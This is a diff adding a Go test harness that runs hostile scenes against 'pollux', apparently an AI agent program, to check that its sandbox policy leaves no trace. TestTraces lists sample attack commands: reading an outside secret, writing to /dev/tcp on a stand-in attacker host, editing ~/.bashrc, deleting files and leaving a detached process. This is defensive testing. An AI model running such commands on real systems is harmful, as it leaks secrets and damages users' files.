@@ -1,0 +1,117 @@
+//go:build linux
+
+// Package hostile attacks the real program: with what a project contains, with what a model
+// calls, and with what both print. The scenes in the files of this directory list the attacks and
+// what stops each. A scene is one run of the program, in a project and a home directory of its
+// own; its attempts are calls that the model makes in it, or one attack by the project itself.
+//
+// After each run, no attempt may have left a trace: a file that is new, changed or gone, in the
+// project, in the home directory or beside them; a secret in a request, in the output or in a
+// file; a request to the attacker's server; a control character in the output; a process that
+// still runs. And each attempt must have been stopped by what its row names, so that the table
+// shows which protection it tests.
+//
+// The table in docs/security.md is made from the scenes; -update writes it. -armed runs the
+// attempts without the protection of the policy, and lists those that do no harm even then.
+package hostile
+
+import (
+	"flag"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+)
+
+var (
+	update = flag.Bool("update", false, "write the table in docs/security.md")
+	armed  = flag.Bool("armed", false, "run the attempts without the policy, and list those that do no harm")
+)
+
+// TestHostile plays all scenes; with -short, every fifth.
+func TestHostile(t *testing.T) {
+	t.Parallel()
+	program := build(t)
+	slots := make(chan struct{}, 8) // many scenes wait for a terminal
+	n := 0
+	for _, k := range readKinds(t) {
+		for _, s := range k.Scenes {
+			if n++; testing.Short() && n%5 != 1 {
+				continue
+			}
+			t.Run(k.file+"/"+strings.ReplaceAll(s.Name, " ", "_"), func(t *testing.T) {
+				t.Parallel()
+				slots <- struct{}{}
+				defer func() { <-slots }()
+				if *armed {
+					s.disarm()
+				}
+				r := play(t, program, s)
+				if *armed {
+					r.listHarmless()
+					return
+				}
+				r.check()
+			})
+		}
+	}
+}
+
+// TestTraces checks that each trace of a successful attack is found: everything is allowed in it.
+func TestTraces(t *testing.T) {
+	t.Parallel()
+	program := build(t)
+	for trace, command := range map[string]string{
+		"is new: canary/0":       "touch {{CANARY}}",
+		"is new: project/made":   "touch made",
+		"is new: home/.bashrc":   "touch ~/.bashrc",
+		"changed: outside/notes": "echo more >>{{OUTSIDE}}/notes",
+		"is gone: outside/notes": "rm {{OUTSIDE}}/notes",
+		"the secret of":          "cat {{OUTSIDE}}/secret",
+		"attacker's server":      "echo >/dev/tcp/{{EVILHOST}}; sleep 0.2",
+		"still runs":             "setsid sleep 300 </dev/null >/dev/null 2>&1 & sleep 0.2",
+	} {
+		t.Run(trace, func(t *testing.T) {
+			t.Parallel()
+			r := play(t, program, &scene{Name: trace, Args: []string{"--yolo"}, Attempts: []attempt{{Name: "a", Command: command}}})
+			if found := strings.Join(r.traces(), "\n"); !strings.Contains(found, trace) {
+				t.Errorf("%q is not found:\n%s\n%v", trace, found, r)
+			}
+		})
+	}
+}
+
+// build returns the path of the program for users. It is built once.
+func build(t *testing.T) string {
+	t.Helper()
+	path, err := built()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+var built = sync.OnceValues(func() (string, error) {
+	path := filepath.Join(programDir, "pollux")
+	if out, err := exec.Command("go", "build", "-o", path, "../../cmd/pollux").CombinedOutput(); err != nil {
+		return "", fmt.Errorf("%w\n%s", err, out)
+	}
+	return path, nil
+})
+
+var programDir string
+
+func TestMain(m *testing.M) {
+	os.Exit(func() int {
+		var err error
+		if programDir, err = os.MkdirTemp("", "pollux-hostile-"); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		defer os.RemoveAll(programDir)
+		return m.Run()
+	}())
+}
